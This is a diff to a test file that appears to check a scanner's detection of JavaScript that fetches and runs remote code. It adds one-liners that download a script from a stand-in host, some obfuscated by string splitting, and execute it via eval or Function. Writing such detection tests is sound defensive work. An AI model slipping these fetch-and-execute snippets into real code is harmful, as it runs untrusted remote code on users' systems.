@@ -159,6 +159,12 @@ def test_javascript_code_that_runs_code_is_read(text: str, expected: str) -> Non
         "fetch(atob('aHR0cHM6Ly9hLnRlc3QveC5qcw==')).then(r => r.text()).then(t => eval(t))",
         "$['getSc'+'ript']('https://a.test/x.js')",
         "var s = document.createElement('script'); s.src = 'https://a.te' + 'st/x.js'; document.head.appendChild(s)",
+        # top-level await in a console; Function of the fetched text
+        "Function(await (await fetch('https://a.te'+'st/x.js')).text())()",
+        "new Function(await (await fetch(['//a', 'test/x.js'].join('.'))).text())()",
+        # an XMLHttpRequest's text run synchronously or from its onload
+        "var x=new XMLHttpRequest();x.open('GET','https://a.te'+'st/x.js',false);x.send();eval(x.responseText)",
+        "var x=new XMLHttpRequest();x.onload=function(){eval(this.responseText)};x.open('GET','https://a.te'+'st/x');x.send()",
     ],
 )
 def test_javascript_hidden_remote_script_is_a_behaviour(text: str) -> None:
